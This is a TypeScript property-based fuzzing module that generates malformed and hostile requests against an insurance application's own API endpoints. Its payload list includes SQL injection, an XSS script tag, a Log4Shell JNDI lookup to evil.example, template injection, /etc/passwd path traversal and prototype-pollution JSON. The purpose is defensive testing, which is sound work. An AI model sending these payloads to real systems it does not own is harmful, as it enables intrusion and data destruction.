import { calls, callNames, type CallName } from "@shanyraq/calls";
import { schemas } from "@shanyraq/calls/schemas";
import fc from "fast-check";

/** One request that no page of ours would send. */
export interface Hostile {
  readonly name: CallName;
  readonly address: string;
  readonly method: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | undefined;
}

const nasty = fc.constantFrom(
  "",
  " ",
  "\u0000",
  "\uD800",
  "'; DROP TABLE customer; --",
  "' OR 1=1 --",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "%00",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "9".repeat(400),
  "1e308",
  "2026-02-30",
  "0000-00-00",
  "9999-12-31",
  "00000000-0000-4000-8000-000000000011",
  "00000000-0000-4000-8000-000000000016",
  "880314300118",
  "+77000000011",
  "👩‍👩‍👧‍👦".repeat(50),
  "қ".repeat(3_000),
  "a".repeat(100_000),
);
const scalar = fc.oneof(
  nasty,
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 1e21),
);
const value = fc.oneof({ weight: 4, arbitrary: scalar }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) });
/** Mostly one that has a calculator: each reads its own form. */
const product = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      "senim",
      "education",
      "pension-annuity",
      "payout-annuity",
      "term-life",
      "credit-life",
      "accident",
      "critical-illness",
      "employer-osns",
      "migrant-vms",
    ),
  },
  { weight: 1, arbitrary: value },
);

interface Described {
  readonly type?: string;
  readonly fields?: Readonly<Record<string, Described>>;
  readonly innerType?: Described;
  readonly oneOf?: readonly unknown[];
}

/** Something of the shape that a schema describes, with a wrong value here and there: what gets past the first checks. */
function like(described: Described, depth = 0): fc.Arbitrary<unknown> {
  if (described.fields && depth < 5) {
    const fields = Object.fromEntries(
      Object.entries(described.fields).map(([name, inner]) => [name, name === "product" ? product : like(inner, depth + 1)]),
    );
    return fc.oneof({ weight: 8, arbitrary: fc.record(fields, { requiredKeys: [] }) }, { weight: 1, arbitrary: value });
  }
  if (described.type === "array" && depth < 5)
    return fc.oneof(
      { weight: 4, arbitrary: fc.array(like(described.innerType ?? {}, depth + 1), { maxLength: 4 }) },
      { weight: 1, arbitrary: value },
    );
  const [first, ...more] = described.oneOf ?? [];
  if (first !== undefined) return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(first, ...more) }, { weight: 1, arbitrary: value });
  const right: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
    string: fc.constantFrom("1990-01-31", "annual", "senim", "5000000", "10", "41201", "01234", "1234", "a@b.kz", "+77000000017"),
    number: fc.integer({ min: 0, max: 100 }),
    boolean: fc.boolean(),
  };
  return fc.oneof({ weight: 2, arbitrary: right[described.type ?? ""] ?? value }, { weight: 1, arbitrary: value });
}

const own: Partial<Record<CallName, string>> = {
  login: "/api/login",
  logout: "/api/logout",
  user: "/api/user",
  kaspiQrPay: "/api/kaspi-qr-pay",
  upload: "/api/upload",
};
const prototypes = ['{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"a":1}}}', '{"toString":1,"valueOf":2,"then":{}}'];
const broken = [
  "{",
  "[]",
  "null",
  "1",
  '"',
  "{} {}",
  "\uFEFF{}",
  "[".repeat(20_000),
  `{"a":${"[".repeat(5_000)}${"]".repeat(5_000)}}`,
  ...prototypes,
];

const segment = fc
  .oneof(nasty, fc.string({ unit: "binary", maxLength: 30 }))
  .map((text) => encodeURIComponent(text.toWellFormed()).slice(0, 2_000));

/** Requests to one row of the table: mostly of its own form, so that they reach what stands behind the checks. */
function toRow(name: CallName): fc.Arbitrary<Hostile> {
  const { path, browserMethod } = calls[name];
  const described = schemas[name].input.describe() as Described;
  const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, key = ""]) => key);
  const address = fc.tuple(...names.map(() => segment)).map((values) => {
    const filled = names.reduce((done, key, at) => done.replace(`{${key}}`, values[at] ?? ""), path);
    return own[name] ?? `/api/provider${filled}`;
  });
  const body = fc.oneof(
    { weight: 10, arbitrary: like(described).map((one) => JSON.stringify(one)) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 6 }).map((one) => JSON.stringify(one)) },
    { weight: 1, arbitrary: fc.constantFrom(...broken) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 200 }) },
  );
  const query = fc.oneof(
    { weight: 3, arbitrary: fc.constant("") },
    {
      weight: 2,
      arbitrary: fc
        .dictionary(fc.constantFrom(...Object.keys(described.fields ?? { q: 1 }), "page", "__proto__"), segment, { maxKeys: 3 })
        .map(queryOf),
    },
  );
  const headers = fc.record(
    {
      lang: fc.constantFrom("ru", "kk", "en", "xx", "", "ru,kk"),
      "content-type": fc.oneof(
        { weight: 8, arbitrary: fc.constantFrom("application/json", "application/json; charset=utf-16") },
        { weight: 1, arbitrary: fc.constantFrom("text/plain", "multipart/form-data; boundary=a") },
      ),
      "idempotency-key": fc.constantFrom("k".repeat(16), "k", "", "x".repeat(5_000), "' OR 1=1 --"),
      traceparent: fc.constantFrom("00-", `00-${"0".repeat(32)}-${"0".repeat(16)}-00`, "a"),
    },
    { requiredKeys: [] },
  );
  return fc.record({ address, query, body, headers }).map((one) => ({
    name,
    address: one.address + one.query,
    method: browserMethod,
    headers: { lang: "ru", "content-type": "application/json", ...one.headers },
    body: browserMethod === "POST" ? one.body : undefined,
  }));
}

const queryOf = (fields: Readonly<Record<string, string>>): string =>
  `?${Object.entries(fields)
    .map(([key, text]) => `${key}=${text}`)
    .join("&")}`;

/** So many hostile requests, spread evenly over every row or over some; the same for the same seed. */
export function hostileRequests(many: number, seed: number, names: readonly CallName[] = callNames): readonly Hostile[] {
  const each = Math.ceil(many / names.length);
  const rows = names.map((name, at) => fc.sample(toRow(name), { numRuns: each, seed: seed + at }));
  // Rows take turns, so that one call's effects meet another's.
  return Array.from({ length: each }, (_, round) => rows.flatMap((row) => row[round] ?? []))
    .flat()
    .slice(0, many);
}
